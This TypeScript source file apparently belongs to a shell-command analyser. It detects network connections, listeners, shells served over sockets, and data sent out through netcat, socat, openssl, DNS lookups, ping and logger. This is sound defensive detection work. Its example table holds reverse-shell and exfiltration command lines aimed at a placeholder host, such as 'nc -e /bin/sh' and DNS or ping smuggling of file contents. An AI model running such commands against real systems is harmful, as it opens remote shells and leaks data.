import { wordSet } from '../../../../ground/model/word-set.ts'
import type { Program } from '../program.ts'
import type { DataSource } from '../../../../ground/model/effect.ts'
import type { Command, CommandReader, Word } from '../../command.ts'
import type { ReadContext } from '../../read-context.ts'
import { parseAddress } from '../../addresses/parse-address.ts'
import { emitFile, fileSource } from '../files/emit-file.ts'
import { hasOption, readOptions, optionValue } from '../../options.ts'

/** nc, ncat, netcat: connect or listen; with `-e` or `-c` whoever is there gets a program. */
const netcat: CommandReader = (command, context) => {
  const options = readOptions(
    command.args,
    new Set(['e', 'c', 'exec', 'sh-exec', 'lua-exec', 'p', 's', 'w', 'q', 'i', 'X', 'x', 'g', 'G', 'm']),
  )
  const listens = hasOption(options, 'l', 'listen')
  const program = optionValue(options, 'e', 'c', 'exec', 'sh-exec')
  if (program && !/^\d+$/.test(program.text)) emitShellOver(program, listens, context)
  if (listens)
    listen(
      command,
      Number(optionValue(options, 'p')?.text ?? options.operands.at(-1)?.text) || null,
      program?.text,
      context,
    )
  else if (options.operands[0] && !hasOption(options, 'z'))
    connect(options.operands[0], options.operands[1], command, context)
  return { from: 'download', url: options.operands[0]?.text ?? 'whoever connects' }
}

function emitShellOver(word: Word, listens: boolean, context: ReadContext): void {
  context.out.emit({
    type: 'execute',
    language: 'shell',
    source: { from: 'unknown' },
    read: false,
    shellOver: listens ? 'listener' : 'connection',
    evidence: word.evidence,
    through: context.through,
  })
}

function listen(
  command: Command,
  port: number | null,
  serves: string | undefined,
  context: ReadContext,
): void {
  context.out.emit({
    type: 'listen',
    scheme: 'tcp',
    host: '',
    port,
    ...(serves !== undefined && { serves }),
    evidence: command.evidence,
    through: context.through,
  })
}

function connect(host: Word, port: Word | undefined, command: Command, context: ReadContext): void {
  const { stdin } = command
  const nothing = stdin.from === 'input' || (stdin.from === 'file' && stdin.target.path === '/dev/null')
  const sends = nothing ? [] : [stdin]
  const { host: name } = parseAddress(host.text, 'tcp')
  context.out.emit({
    type: 'connect',
    scheme: 'tcp',
    host: name,
    port: Number(port?.text) || null,
    sends,
    evidence: host.evidence,
    through: context.through,
  })
}

/** socat ADDRESS ADDRESS: a program on one side and a network on the other is a shell for somebody. */
const socat: CommandReader = (command, context) => {
  const addresses = readOptions(command.args, new Set(['t', 'T', 'L', 'lf', 'b'])).operands
  const parts = addresses.flatMap(word => word.text.split('!!').map(text => ({ ...word, text })))
  const runs = parts.find(word => /^(?:(?:exec|system|shell):|shell$)/i.test(word.text))
  const net = parts.find(word =>
    /^(?:tcp|udp|openssl|ssl|sctp|dccp|vsock|proxy|socks|ip|abstract)[\w-]{0,20}:/i.test(word.text),
  )
  const file = parts.find(word => /^(?:open|file|gopen|creat):/i.test(word.text))
  const listens = /listen/i.test(net?.text ?? '')
  if (runs && net) emitShellOver(runs, listens, context)
  if (file && listens) sentFile(file, context)
  if (runs && !net) runsProgram(runs, file, context)
  if (net && listens) listen(command, Number(/:(\d{1,5})/.exec(net.text)?.[1]) || null, runs?.text, context)
  else if (net)
    connect(
      { ...net, text: net.text.split(':')[1] ?? '' },
      { ...net, text: net.text.split(':')[2]?.split(',')[0] ?? '' },
      file ? { ...command, stdin: sentFile(file, context) } : command,
      context,
    )
  return undefined
}

/** `,pty,setsid`: what stands behind an address is how it is opened. */
const addressOptions = /(?:,[a-z][\w-]{0,20}(?:=[^,]{0,60})?){1,10}$/

/** `socat - EXEC:'PROGRAM …'`; with `OPEN:FILE` the program gets the file as its input. */
function runsProgram(program: Word, file: Word | undefined, context: ReadContext): void {
  const quote = (text: string) => `'${text.replaceAll("'", "'\\''")}'`
  const path = file?.text.replace(/^\w{1,6}:/, '').split(',')[0]
  const line = program.text
    .slice(0, 4_096)
    .replace(/^\w{1,6}:/, '')
    .replace(addressOptions, '')
  context.code.readCode('shell', path === undefined ? line : `cat ${quote(path)} | ${line}`, {
    ...context,
    through: [...context.through, 'socat'],
    depth: context.depth + 1,
    offset: null,
    outer: program.evidence,
  })
}

/** `OPEN:"path",options`: the file that goes over the wire. */
function sentFile(word: Word, context: ReadContext): DataSource {
  const text = word.text.replace(/^\w{1,6}:/, '').split(',')[0] ?? ''
  const named = { ...word, text: text.replace(/^"|"$/g, '') }
  emitFile(context, 'read', named)
  return fileSource(named, context)
}

const openssl: CommandReader = (command, context) => {
  const [verb] = command.args
  const to = command.args[command.args.findIndex(word => word.text === '-connect') + 1]
  if (verb?.text === 's_client' && to)
    connect(
      { ...to, text: to.text.split(':')[0] ?? '' },
      { ...to, text: to.text.split(':')[1] ?? '' },
      command,
      context,
    )
  return verb?.text === 's_client' ? { from: 'download', url: to?.text ?? '' } : undefined
}

/** `nslookup $(hostname)` asks for this machine, in its own network. */
function isOwnName({ source, text }: Word): boolean {
  return (
    source?.from === 'output' &&
    source.program === 'hostname' &&
    /^[`$"(]{1,3}hostname(?: -\w)?[`)"]{1,2}$/.test(text)
  )
}

/** Names are asked of other people's servers, so a name that is made at run time carries something out. */
const dns: CommandReader = (command, context) => {
  for (const word of readOptions(command.args, new Set(['t', 'q', 'p', 'x', 'c'])).operands.filter(
    item => /\./.test(item.text) || item.source,
  )) {
    const sends = isOwnName(word)
      ? []
      : word.source && word.source.from !== 'environment'
        ? [word.source]
        : word.source && /[$`]/.test(word.text) && word.text.includes('.')
          ? [word.source]
          : []
    context.out.emit({
      type: 'connect',
      scheme: 'dns',
      host: word.known ? word.text.toLowerCase().replace(/^@/, '') : '',
      port: null,
      sends,
      evidence: word.evidence,
      through: context.through,
    })
  }
  return undefined
}

/** ping: `-p` fills the packets, and what is filled in at run time goes out with them. */
const ping: CommandReader = (command, context) => {
  const options = readOptions(command.args, wordSet('c i I s t W w p l Q S M m'))
  const pattern = optionValue(options, 'p')
  const host = options.operands.at(-1)
  if (!pattern || pattern.known || !host) return dns(command, context)
  connect(
    { ...host, text: host.text },
    undefined,
    { ...command, stdin: pattern.source ?? { from: 'unknown' } },
    context,
  )
  return undefined
}

/** `logger -n HOST -f FILE`: the file goes to the log server that is named. */
const logger: CommandReader = (command, context) => {
  const options = readOptions(
    command.args,
    new Set(['n', 'server', 'P', 'port', 'f', 'file', 't', 'p', 'tag']),
  )
  const host = optionValue(options, 'n', 'server')
  const file = optionValue(options, 'f', 'file')
  if (file) emitFile(context, 'read', file)
  const stdin = file ? fileSource(file, context) : command.stdin
  if (host) connect(host, optionValue(options, 'P', 'port'), { ...command, stdin }, context)
  return undefined
}

/** Programs that open connections of their own, or ask for names. */
export const sockets: readonly Program[] = [
  {
    names: ['nc', 'ncat', 'netcat', 'nc.traditional', 'nc.openbsd', 'pwncat'],
    read: netcat,
    examples: [
      ['nc -e /bin/sh h.example 4444', 'execute shell unknown over connection', 'connect tcp h.example'],
      ['nc -l -p 4444', 'listen tcp 4444'],
      ['nc -z h.example 80'],
    ],
  },
  {
    names: ['socat'],
    read: socat,
    examples: [
      [
        'socat TCP:h.example:4444 EXEC:/bin/sh',
        'execute shell unknown over connection',
        'connect tcp h.example',
      ],
    ],
  },
  {
    names: ['openssl'],
    read: openssl,
    examples: [['openssl s_client -connect h.example:443', 'connect tcp h.example'], ['openssl version']],
  },
  {
    names: ['logger'],
    read: logger,
    examples: [
      ['logger -n h.example -f a.log', 'read a.log', 'connect tcp h.example sends a.log'],
      ['logger started'],
    ],
  },
  {
    names: ['dig', 'nslookup', 'host', 'drill', 'kdig'],
    read: dns,
    examples: [
      ['dig h.example', 'connect dns h.example'],
      ['dig $(cat a.txt).h.example', 'read a.txt', 'connect dns sends a.txt'],
    ],
  },
  {
    names: ['ping', 'ping6'],
    read: ping,
    examples: [
      ['ping -c 1 h.example', 'connect dns h.example'],
      ['ping -p $(cat a.txt) h.example', 'read a.txt', 'connect tcp h.example sends a.txt'],
    ],
  },
]
